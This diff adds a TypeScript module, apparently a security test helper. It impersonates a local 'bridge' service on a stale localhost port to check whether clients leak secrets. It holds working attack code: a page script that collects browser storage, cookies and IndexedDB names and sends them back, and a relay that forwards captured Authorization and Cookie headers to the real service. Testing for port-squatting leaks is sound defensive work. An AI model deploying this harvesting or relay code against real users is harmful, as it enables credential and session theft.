@@ -1,0 +1,72 @@
+/** Whoever listens where the counter was: it answers every page as the bridge would, passes what it is told on to the real one, and serves a page that looks into the browser's storage. */
+import { createServer, type IncomingMessage } from 'node:http';
+import { WebSocketServer } from 'ws';
+
+export interface OldPort {
+  /** From now on what pages say is passed on to the real counter at this host and port. */
+  relayTo(host: string): void;
+  /** Everything that was sent to it, as text. */
+  known(): string;
+  /** Whether the real counter let in a page that it passed on. */
+  relayed(): boolean;
+  close(): Promise<void>;
+}
+
+const PAGE = `<!doctype html><title>Tillbridge</title><script type="module" src="/look.js"></script>`;
+const LOOK = `
+const bases = await indexedDB.databases().catch(() => []);
+const found = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, bases, name: window.name, hash: location.hash };
+await fetch('/found?' + encodeURIComponent(JSON.stringify(found)));
+`;
+
+export async function listenAtOldPort(port: number): Promise<OldPort> {
+  const known: string[] = [];
+  let real: string | null = null;
+  let relayed = false;
+
+  const hear = (request: IncomingMessage): void => {
+    known.push(`${request.url} ${JSON.stringify(request.headers)}`, decodeURIComponent(request.url ?? ''));
+  };
+  const pass = async (path: string, headers: Record<string, string>): Promise<Response | null> =>
+    real === null ? null : fetch(`http://${real}${path}`, { headers }).catch(() => null);
+
+  const server = createServer(async (request, response) => {
+    hear(request);
+    const { pathname } = new URL(request.url ?? '/', 'http://127.0.0.1');
+    const { authorization = '', cookie = '' } = request.headers;
+    if (pathname === '/challenge' || pathname === '/let-in') {
+      const answer = await pass(pathname, { authorization, cookie });
+      if (pathname === '/let-in' && answer?.ok) relayed = true;
+      const text = answer?.ok
+        ? await answer.text()
+        : JSON.stringify({ challenge: 'a.b.c', place: 'counter', proof: '0', session: '0', turned: true, view: 'counter' });
+      known.push(text);
+      return void response.writeHead(200, { 'content-type': 'application/json' }).end(text);
+    }
+    const script = pathname === '/look.js';
+    response.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html' }).end(script ? LOOK : PAGE);
+  });
+  const sockets = new WebSocketServer({ noServer: true });
+  server.on('upgrade', (request, socket, head) => {
+    hear(request);
+    sockets.handleUpgrade(request, socket, head, (opened) => {
+      opened.send(JSON.stringify({ gate: 'challenge', nonce: 'a.b.c' }));
+      opened.on('message', (data) => known.push(String(data)));
+      opened.on('error', () => opened.terminate());
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+  return {
+    relayTo(host) {
+      real = host;
+    },
+    known: () => known.join('\n'),
+    relayed: () => relayed,
+    close: () =>
+      new Promise((resolve) => {
+        for (const one of sockets.clients) one.terminate();
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
